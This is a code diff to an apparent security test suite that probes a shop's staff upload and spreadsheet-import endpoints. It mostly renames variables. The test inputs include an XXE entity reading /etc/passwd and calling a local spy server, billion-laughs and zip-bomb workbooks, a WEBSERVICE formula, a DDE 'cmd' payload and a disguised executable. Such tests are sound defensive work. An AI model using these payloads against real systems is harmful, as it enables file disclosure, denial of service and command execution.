@@ -1,4 +1,4 @@
-import { toldWorkbook, toldZip } from '@spindle/api/kernel/spreadsheets/zip.fixture';
+import { forgedWorkbook, forgedZip } from '@spindle/api/kernel/spreadsheets/zip.fixture';
 import { randomUUID } from 'node:crypto';
 import { readdirSync } from 'node:fs';
 import { createServer } from 'node:http';
@@ -23,7 +23,7 @@ const stillRead = 'is still read';
 const cyrillic = /[А-Яа-яЁё]{3}/;
 
 /** An employee of the catalogue: the files come from somebody whose mailbox or machine was taken. */
-async function keeperOf({ wire, shop }: Pick<World, 'wire' | 'shop'>): Promise<string> {
+async function editorSession({ wire, shop }: Pick<World, 'wire' | 'shop'>): Promise<string> {
   const email = `${randomUUID()}@shop.example.ru`;
   const printed = await shopCommand(
     ['staff', 'add', email, 'Марина', 'Зуева', '--role', 'catalogue', '--role', 'content'],
@@ -34,14 +34,14 @@ async function keeperOf({ wire, shop }: Pick<World, 'wire' | 'shop'>): Promise<s
   );
   const token = /token=([\w-]+)/.exec(printed)?.[1] ?? '';
   const password = `Rabochij-den-${randomUUID()}`;
-  const taken = await wire.send({ method: 'PUT', path: '/api/staff/invite', body: { token, password } });
+  const accepted = await wire.send({ method: 'PUT', path: '/api/staff/invite', body: { token, password } });
   const cookieOf = ({ headers }: Answer) =>
     (headers['set-cookie'] ?? [])
       .map((one) => one.split(';', 1)[0])
       .find((one) => /Staff-Token=/.test(one ?? '')) ?? '';
-  const cookie = cookieOf(taken);
-  const asked = await wire.send({ method: 'POST', path: '/api/staff/factors/totp', headers: { cookie } });
-  const { secret } = JSON.parse(asked.text).data;
+  const cookie = cookieOf(accepted);
+  const totpSetup = await wire.send({ method: 'POST', path: '/api/staff/factors/totp', headers: { cookie } });
+  const { secret } = JSON.parse(totpSetup.text).data;
   const proved = await wire.send({
     method: 'PUT',
     path: '/api/staff/factors/totp',
@@ -54,17 +54,17 @@ async function keeperOf({ wire, shop }: Pick<World, 'wire' | 'shop'>): Promise<s
 
 const chunk = (type: string, data: Buffer): Buffer => {
   const body = Buffer.concat([Buffer.from(type), data]);
-  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
+  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
   length.writeUInt32BE(data.length);
-  sum.writeUInt32BE(crc32(body));
-  return Buffer.concat([length, body, sum]);
+  checksum.writeUInt32BE(crc32(body));
+  return Buffer.concat([length, body, checksum]);
 };
 
 /** A picture of so many dots, all alike: a few kilobytes that unpack to much. */
-function plainPng(width: number, height: number, told = { width, height }): Buffer {
+function plainPng(width: number, height: number, declared = { width, height }): Buffer {
   const head = Buffer.alloc(13);
-  head.writeUInt32BE(told.width, 0);
-  head.writeUInt32BE(told.height, 4);
+  head.writeUInt32BE(declared.width, 0);
+  head.writeUInt32BE(declared.height, 4);
   head.set([8, 2, 0, 0, 0], 8);
   const dots = deflateSync(Buffer.alloc((width * 3 + 1) * height), { level: 9 });
   const sign = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
@@ -80,8 +80,8 @@ const giga = 1024 * megabyte;
 function tables(spy: string): readonly (readonly [what: string, name: string, bytes: Buffer])[] {
   const outside = `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "${spy}/entity">]>`;
   const small = { size: 1000 };
-  const strings = (data: Parameters<typeof toldZip>[0][number]['data'], more: object = {}) =>
-    toldZip([
+  const strings = (data: Parameters<typeof forgedZip>[0][number]['data'], more: object = {}) =>
+    forgedZip([
       { name: 'xl/sharedStrings.xml', data, ...more },
       { name: 'xl/workbook.xml', data: '<workbook/>' },
     ]);
@@ -89,7 +89,7 @@ function tables(spy: string): readonly (readonly [what: string, name: string, by
     [
       '10 GB of a sheet',
       'a.xlsx',
-      toldWorkbook([titles, { byte: ' ', times: 10 * giga }], { list: small, local: small }),
+      forgedWorkbook([titles, { byte: ' ', times: 10 * giga }], { list: small, local: small }),
     ],
     [
       '10 GB of shared strings',
@@ -99,37 +99,39 @@ function tables(spy: string): readonly (readonly [what: string, name: string, by
         { list: { size: 4_000_000_000 }, local: { size: 4_000_000_000 } },
       ),
     ],
-    ['3 GB that say so', 'a.xlsx', toldWorkbook([titles, { byte: ' ', times: 3 * giga }])],
-    ['190 MB of short texts', 'a.xlsx', toldWorkbook(manyRows(190 * megabyte))],
+    ['3 GB that say so', 'a.xlsx', forgedWorkbook([titles, { byte: ' ', times: 3 * giga }])],
+    ['190 MB of short texts', 'a.xlsx', forgedWorkbook(manyRows(190 * megabyte))],
     [
       '190 MB of empty cells',
       'a.xlsx',
-      toldWorkbook(['<row r="1">', '<c/>'.repeat((190 * megabyte) / 4), '</row>']),
+      forgedWorkbook(['<row r="1">', '<c/>'.repeat((190 * megabyte) / 4), '</row>']),
     ],
     [
       'a million of columns',
       'a.xlsx',
-      toldWorkbook(`<row r="1">${'<c><v>1</v></c>'.repeat(1_000_000)}</row>`),
+      forgedWorkbook(`<row r="1">${'<c><v>1</v></c>'.repeat(1_000_000)}</row>`),
     ],
     [
       'a cell at the end of the world',
       'a.xlsx',
-      toldWorkbook(`${titles}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`),
+      forgedWorkbook(`${titles}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`),
     ],
     [
       'laughs',
       'a.xlsx',
-      toldWorkbook(`${laughs}${titles}<row r="2"><c r="A2" t="inlineStr"><is><t>&a30;</t></is></c></row>`),
+      forgedWorkbook(`${laughs}${titles}<row r="2"><c r="A2" t="inlineStr"><is><t>&a30;</t></is></c></row>`),
     ],
     [
       'entities of outside',
       'a.xlsx',
-      toldWorkbook(`${outside}${titles}<row r="2"><c r="A2" t="inlineStr"><is><t>&e;&f;</t></is></c></row>`),
+      forgedWorkbook(
+        `${outside}${titles}<row r="2"><c r="A2" t="inlineStr"><is><t>&e;&f;</t></is></c></row>`,
+      ),
     ],
     [
       'formulas and links to outside',
       'a.xlsx',
-      toldWorkbook(
+      forgedWorkbook(
         `${titles}<row r="2"><c r="A2" t="str"><f>WEBSERVICE("${spy}/formula")</f><v>F-1</v></c><c r="B2" t="str"><f>'[1]Лист1'!A1</f><v>=cmd|'/c calc'!A1</v></c></row>`,
       ),
     ],
@@ -199,7 +201,7 @@ const pictures: () => readonly (readonly [what: string, name: string, bytes: Buf
   ['a program', 'a.png.exe', Buffer.from('MZ')],
   ['a name of 300 letters', `${'ж'.repeat(300)}.png`, plainPng(8, 8)],
 ];
-const papers: readonly (readonly [what: string, name: string, bytes: Buffer])[] = [
+const documents: readonly (readonly [what: string, name: string, bytes: Buffer])[] = [
   ['no paper', 'a.pdf', Buffer.from('<html><script>alert(1)</script>')],
   ['a program', 'a.pdf', Buffer.from('MZ'.padEnd(1000, 'x'))],
   ['a picture', 'a.pdf', plainPng(8, 8)],
@@ -220,15 +222,15 @@ async function formOf(
   const form = new FormData();
   for (const [field, value] of Object.entries(fields)) form.append(field, value);
   for (const [name, bytes] of files) form.append('files', new Blob([Uint8Array.from(bytes)]), name);
-  const made = new Response(form);
+  const response = new Response(form);
   return {
-    body: Buffer.from(await made.arrayBuffer()),
-    headers: { 'content-type': made.headers.get('content-type') ?? '' },
+    body: Buffer.from(await response.arrayBuffer()),
+    headers: { 'content-type': response.headers.get('content-type') ?? '' },
   };
 }
 
 /** The message at the field, or that of the whole answer. */
-function toldBy({ text }: Pick<Answer, 'text'>): string {
+function messageOf({ text }: Pick<Answer, 'text'>): string {
   try {
     const { errors, message, error } = JSON.parse(text) as {
       errors?: { files?: string[] };
@@ -270,8 +272,12 @@ function pour(wire: Wire, cookie: string, name: string, size: number, cutAt = si
       await put(
         `POST ${imports} HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${wire.origin}\r\nCookie: ${cookie}\r\nX-Forwarded-For: 10.201.0.${1 + (size % 200)}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: ${length}\r\n\r\n${start}`,
       );
-      for (let left = Math.min(size, cutAt); left > 0 && !socket.destroyed; left -= piece.length)
-        await put(piece.subarray(0, Math.min(left, piece.length)));
+      for (
+        let remaining = Math.min(size, cutAt);
+        remaining > 0 && !socket.destroyed;
+        remaining -= piece.length
+      )
+        await put(piece.subarray(0, Math.min(remaining, piece.length)));
       if (cutAt < size) return stop();
       await put(end);
     };
@@ -280,10 +286,10 @@ function pour(wire: Wire, cookie: string, name: string, size: number, cutAt = si
 }
 
 /** A sheet that can be read is shown before anything is written; all others are told of in words. */
-function wonBy(said: string): string | false {
-  if (said === stillRead) return said;
-  if (/root:|hahaha/.test(said)) return 'an entity was read';
-  return !cyrillic.test(said) && !said.startsWith('checked') && `said «${said}»`;
+function wonBy(output: string): string | false {
+  if (output === stillRead) return output;
+  if (/root:|hahaha/.test(output)) return 'an entity was read';
+  return !cyrillic.test(output) && !output.startsWith('checked') && `said «${output}»`;
 }
 
 /** Strange files by somebody of the staff: a plain message, bounded memory and time, nothing left behind, and others are served. */
@@ -291,17 +297,17 @@ export const officeFiles: AttackClass = {
   name: 'files for the office',
   async attack(world, tally) {
     const { wire, shop, goods } = world;
-    const cookie = await keeperOf(world);
-    const asked: string[] = [];
+    const cookie = await editorSession(world);
+    const spiedRequests: string[] = [];
     const spy = createServer((request, answer) => {
-      asked.push(request.url ?? '');
+      spiedRequests.push(request.url ?? '');
       answer.end();
     });
     await new Promise<void>((ready) => void spy.listen(0, '127.0.0.1', () => ready()));
     const spyUrl = `http://127.0.0.1:${(spy.address() as AddressInfo).port}`;
     const send = async (method: string, to: string, form?: Awaited<ReturnType<typeof formOf>>) =>
       wire.send({ method, path: to, ...form, headers: { ...form?.headers, cookie } });
-    const [before, kept] = [shop.memoryMb(), filesBelow(path.join(shop.directory, 'files'))];
+    const [before, storedBefore] = [shop.memoryMb(), filesBelow(path.join(shop.directory, 'files'))];
     let most = before;
     const timer = setInterval(() => void (most = Math.max(most, shop.memoryMb())), 50);
     const live = watchLive(wire.url);
@@ -323,11 +329,14 @@ export const officeFiles: AttackClass = {
     };
     for (const [what, name, bytes] of tables(spyUrl)) {
       const answer = await send('POST', imports, await formOf([[name, bytes]]));
-      const { said, ms } =
-        answer.status === 200 ? await checked(answer) : { said: toldBy(answer), ms: answer.ms };
-      tally.take(`a table, ${what}`, { status: answer.status, ms }, wonBy(said));
+      const { said: output, ms } =
+        answer.status === 200 ? await checked(answer) : { said: messageOf(answer), ms: answer.ms };
+      tally.take(`a table, ${what}`, { status: answer.status, ms }, wonBy(output));
     }
-    tally.decide('addresses in tables', asked.length > 0 && `were asked for: ${asked.join(', ')}`);
+    tally.decide(
+      'addresses in tables',
+      spiedRequests.length > 0 && `were asked for: ${spiedRequests.join(', ')}`,
+    );
     spy.close();
     for (const [name, size] of [
       ['a.xlsx', 200],
@@ -342,19 +351,19 @@ export const officeFiles: AttackClass = {
       );
     }
     const goodsPath = `/api/staff/catalogue/${goods[0]?.id}`;
-    const ways = [
+    const uploadTargets = [
       [`${goodsPath}/photos`, pictures(), {}],
-      [`${goodsPath}/files`, papers, { kind: 'manual', name: 'Руководство' }],
-      ['/api/staff/media', [...pictures(), ...papers], {}],
+      [`${goodsPath}/files`, documents, { kind: 'manual', name: 'Руководство' }],
+      ['/api/staff/media', [...pictures(), ...documents], {}],
     ] as const;
-    for (const [to, files, fields] of ways)
+    for (const [to, files, fields] of uploadTargets)
       for (const [what, name, bytes] of files) {
         const answer = await send('POST', to, await formOf([[name, bytes]], fields));
-        const said = toldBy(answer);
+        const message = messageOf(answer);
         tally.take(
           `${to}, ${what}`,
           answer,
-          answer.status < 400 ? 'was taken' : !cyrillic.test(said) && `said «${said}»`,
+          answer.status < 400 ? 'was taken' : !cyrillic.test(message) && `said «${message}»`,
         );
       }
     // Whoever sends one good and one bad file has sent nothing.
@@ -370,20 +379,23 @@ export const officeFiles: AttackClass = {
     for (let round = 0; round < 3; round += 1)
       await pour(wire, cookie, 'a.xlsx', 15 * megabyte, 5 * megabyte);
     const uploaded = () => filesBelow(path.join(shop.directory, 'uploads'));
-    for (let look = 0; look < 50 && uploaded().length > 0; look += 1) await sleep(200);
+    for (let attempt = 0; attempt < 50 && uploaded().length > 0; attempt += 1) await sleep(200);
     tally.decide('an interrupted upload', uploaded().length > 0 && 'left files behind');
     clearInterval(timer);
-    const left = filesBelow(path.join(shop.directory, 'files')).filter(
-      (file) => !kept.includes(file) && file.includes('photos'),
+    const leftovers = filesBelow(path.join(shop.directory, 'files')).filter(
+      (file) => !storedBefore.includes(file) && file.includes('photos'),
     );
-    tally.decide('refused pictures', left.length > 0 && `left ${left.length} files: ${left[0]}`);
+    tally.decide(
+      'refused pictures',
+      leftovers.length > 0 && `left ${leftovers.length} files: ${leftovers[0]}`,
+    );
     const twice = await Promise.all(
       Array.from({ length: 4 }, async () =>
         send('POST', `${goodsPath}/photos`, await formOf([['twin.png', plainPng(1600, 1201)]])),
       ),
     );
     twice.forEach((answer, at) =>
-      tally.take(`one picture at once, ${at}`, answer, answer.status !== 200 && toldBy(answer)),
+      tally.take(`one picture at once, ${at}`, answer, answer.status !== 200 && messageOf(answer)),
     );
     const parts = filesBelow(path.join(shop.directory, 'files')).filter((file) => file.endsWith('.part'));
     tally.decide('one picture at once', parts.length > 0 && 'left unfinished files');
